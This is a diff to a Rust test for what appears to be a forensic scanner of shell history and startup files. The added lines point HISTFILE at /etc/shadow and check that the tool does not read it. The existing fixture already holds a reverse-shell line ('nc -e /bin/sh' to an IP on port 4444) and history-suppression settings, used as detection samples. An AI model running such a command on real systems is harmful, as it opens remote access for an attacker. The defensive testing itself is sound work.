@@ -248,6 +248,8 @@ fn startup_files_suppression_and_histfile() {
         "set +o history\nnc -e /bin/sh 203.0.113.9 4444\n",
     );
     write(r0, "home/eve/.zshrc", "HISTFILESIZE=0\n");
+    write(r0, "root/.bashrc", "HISTFILE=/etc/shadow\n");
+    write(r0, "etc/shadow", "root:$6$salt$hash:19000:0:99999:7:::\n");
     let r = run(r0, &HistoryOptions::default());
     let ids = ids(&r);
     for want in [
@@ -276,6 +278,8 @@ fn startup_files_suppression_and_histfile() {
         .unwrap();
     assert_eq!(f.evidence[0].line, Some(2));
     assert_eq!(r.users_without_history, vec![b"root".to_vec()]);
+    // A HISTFILE naming a system file is not read.
+    assert!(r.sources.iter().all(|s| s.path != "/etc/shadow"));
 }
 
 #[test]
